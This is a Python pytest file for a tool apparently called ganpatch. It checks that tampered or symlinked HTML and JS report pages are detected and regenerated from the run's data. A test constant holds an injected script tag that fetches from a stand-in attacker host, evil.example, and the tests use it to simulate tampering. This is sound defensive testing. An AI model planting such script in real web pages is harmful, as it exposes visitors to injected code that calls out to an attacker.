"""The pages of a run that somebody else made: a page is a program, so they are written again from the data."""

from pathlib import Path

import pytest
from click.testing import CliRunner

from ganpatch import write_page
from ganpatch.cli import cli
from ganpatch.dissection.report import write_dissection_page
from ganpatch.dissection.result import Dissection
from ganpatch.review import server
from ganpatch.runs.fresh_pages import write_fresh_pages
from tests.support import own_files as own

HARM = "<script>fetch('//evil.example')</script>"


@pytest.fixture
def run(tmp_path: Path) -> Path:
    own.make_run(tmp_path / "run")
    write_page(tmp_path / "run")
    write_dissection_page(Dissection.load(tmp_path / "run"), tmp_path / "run")
    return tmp_path / "run"


def test_a_page_that_was_changed_is_replaced_and_named(run: Path) -> None:
    assert write_fresh_pages(run).differing == ()
    wanted = {path.name: path.read_bytes() for path in run.iterdir() if path.suffix in (".html", ".js")}
    for name in wanted:
        (run / name).write_text(HARM)
    said = CliRunner().invoke(cli, ["review", str(run), "--page-only"])
    assert said.exit_code == 0
    assert said.stderr.splitlines() == [
        "dissection.html, index.html, layer-0.js: not what ganpatch writes for this data, and replaced; another version "
        "wrote it, the folder had another name, or somebody changed it",
        f"open {run}/index.html and {run}/dissection.html",
    ]
    assert {name: (run / name).read_bytes() for name in wanted} == wanted
    again = CliRunner().invoke(cli, ["review", str(run), "--page-only"])
    assert again.stderr.startswith("the pages that were there are what ganpatch writes for this data\n")


def test_what_a_page_links_to_is_replaced_and_not_followed(run: Path) -> None:
    (run.parent / "mine.html").write_text("mine")
    (run / "index.html").unlink()
    (run / "index.html").symlink_to(run.parent / "mine.html")
    assert write_fresh_pages(run).differing == ("index.html",)
    assert (run.parent / "mine.html").read_text() == "mine"
    assert not (run / "index.html").is_symlink()


def test_the_server_writes_the_page_again(run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (run / "index.html").write_text(HARM)
    monkeypatch.setattr(server, "run", lambda app, listener: listener.close())
    server.serve(run, 0, lambda address: None)
    assert HARM not in (run / "index.html").read_text()
